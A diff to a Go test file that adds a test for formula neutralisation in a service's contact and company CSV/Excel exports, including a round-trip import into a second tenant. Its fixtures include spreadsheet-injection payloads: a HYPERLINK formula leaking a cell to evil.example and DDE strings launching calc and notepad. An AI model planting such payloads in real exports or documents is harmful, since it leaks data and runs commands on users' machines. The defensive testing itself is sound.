@@ -3,6 +3,7 @@ package app_test
 import (
 	"encoding/csv"
 	"net/http"
+	"slices"
 	"strings"
 	"testing"
 
@@ -50,7 +51,7 @@ func TestExport(t *testing.T) {
 		t.Fatalf("rows %v", rows)
 	}
 	petr := rows[3]
-	for k, want := range map[string]string{"emails": "p@x.ru; petr@y.ru", "phones": "+74951234567", "company_id": company,
+	for k, want := range map[string]string{"emails": "p@x.ru; petr@y.ru", "phones": "'+74951234567", "company_id": company,
 		"tags": "vip; b2b", "address.city": "Москва", "birthday": "1980-02-29", "timezone": "Europe/Moscow", "lifecycle_stage": "lead"} {
 		if petr[col[k]] != want {
 			t.Errorf("%s: %q, want %q", k, petr[col[k]], want)
@@ -110,5 +111,95 @@ func TestExport(t *testing.T) {
 		if b[i-1][0] >= b[i][0] {
 			t.Fatalf("rows %d and %d out of creation order", i-1, i)
 		}
+	}
+}
+
+// Cells a spreadsheet would run as formulas get a leading apostrophe in
+// every flavour of export, and an import of the export strips it again:
+// exported, imported into another tenant and exported there, every value
+// comes back exactly.
+func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
+	h := start(t)
+	admA, admB := h.token(h.tenantA, auth.RoleAdmin), h.token(h.tenantB, auth.RoleAdmin)
+	for _, tok := range []string{admA, admB} {
+		h.do("POST", "/v1/fields", tok, map[string]any{"entity": "contact", "key": "note", "label": "Note", "type": "text"}).
+			want(t, http.StatusCreated)
+		h.do("POST", "/v1/fields", tok, map[string]any{"entity": "contact", "key": "score", "label": "Score", "type": "number"}).
+			want(t, http.StatusCreated)
+		h.do("POST", "/v1/fields", tok, map[string]any{"entity": "company", "key": "note", "label": "Note", "type": "text"}).
+			want(t, http.StatusCreated)
+	}
+	hostile := []map[string]any{
+		{"first_name": `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+			"position": "+cmd|' /C notepad'!A0", "phones": []string{"+7 912 000-00-01"}, "emails": []string{"f1@example.ru"},
+			"address": map[string]any{"street": "-2+3+cmd|' /C calc'!A0"}, "custom": map[string]any{"note": "'=already quoted", "score": -5}},
+		{"first_name": "'plain apostrophe", "last_name": "O'Brien", "emails": []string{"f2@example.ru"},
+			"custom": map[string]any{"note": "''+twice", "score": 12.5}},
+	}
+	for _, c := range hostile {
+		h.do("POST", "/v1/contacts", admA, c).want(t, http.StatusCreated)
+	}
+	h.do("POST", "/v1/companies", admA, map[string]any{"name": "=1+2", "phones": []string{"+7 495 000-00-01"},
+		"custom": map[string]any{"note": "@here"}}).want(t, http.StatusCreated)
+
+	rows := exportRows(t, h.do("GET", "/v1/contacts/export?sort=name", admA, nil).want(t, http.StatusOK), ',')
+	col := map[string]int{}
+	for i, c := range rows[0] {
+		col[c] = i
+	}
+	var f1 []string
+	for _, row := range rows[1:] {
+		if row[col["emails"]] == "f1@example.ru" {
+			f1 = row
+		}
+	}
+	for k, want := range map[string]string{"first_name": `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+		"last_name": "'@SUM(1+1)*cmd|' /C calc'!A0", "position": "'+cmd|' /C notepad'!A0", "phones": "'+79120000001",
+		"address.street": "'-2+3+cmd|' /C calc'!A0", "custom.note": "''=already quoted", "custom.score": "'-5"} {
+		if f1 == nil || f1[col[k]] != want {
+			t.Errorf("%s: %q, want %q", k, f1[col[k]], want)
+		}
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s: a cell starts a formula: %q", rows[0][i], cell)
+			}
+		}
+	}
+	x := exportRows(t, h.do("GET", "/v1/contacts/export?format=excel&sort=name", admA, nil).want(t, http.StatusOK), ';')
+	if !slices.EqualFunc(x, rows, slices.Equal[[]string]) {
+		t.Errorf("the excel flavour differs from csv but for its separator:\n%v\n%v", x, rows)
+	}
+	co := exportRows(t, h.do("GET", "/v1/companies/export", admA, nil).want(t, http.StatusOK), ',')
+	if co[1][1] != "'=1+2" || co[1][8] != "'+74950000001" || co[1][len(co[1])-1] != "'@here" {
+		t.Errorf("companies: %v", co)
+	}
+
+	// The export, imported into tenant B and exported there, is the same
+	// file but for the ids and times the service assigns.
+	for entity, path := range map[string]string{"contacts": "/v1/contacts/export?sort=name", "companies": "/v1/companies/export"} {
+		file := h.do("GET", path, admA, nil).want(t, http.StatusOK).raw
+		r := h.postCSV(admB, "entity="+entity, file).want(t, http.StatusAccepted)
+		if done := h.waitImport(admB, r.body["id"].(string)); done.body["failed"].(float64) != 0 {
+			t.Fatalf("%s: %s %v", entity, done.raw, h.importErrors(admB, r.body["id"].(string)))
+		}
+		a := exportRows(t, h.do("GET", path, admA, nil).want(t, http.StatusOK), ',')
+		b := exportRows(t, h.do("GET", path, admB, nil).want(t, http.StatusOK), ',')
+		if len(a) != len(b) {
+			t.Fatalf("%s: %d rows exported, %d after the round trip", entity, len(a), len(b))
+		}
+		for i := range a {
+			for j, name := range a[0] {
+				if name != "id" && name != "created_at" && name != "updated_at" && a[i][j] != b[i][j] {
+					t.Errorf("%s row %d, %s: %q became %q", entity, i, name, a[i][j], b[i][j])
+				}
+			}
+		}
+	}
+	got := h.do("GET", "/v1/contacts?q=f1@example.ru", admB, nil).want(t, http.StatusOK).body["items"].([]any)[0].(map[string]any)
+	if got["first_name"] != hostile[0]["first_name"] || got["position"] != hostile[0]["position"] ||
+		got["custom"].(map[string]any)["note"] != "'=already quoted" || got["custom"].(map[string]any)["score"] != -5.0 {
+		t.Errorf("imported: %v", got)
 	}
 }
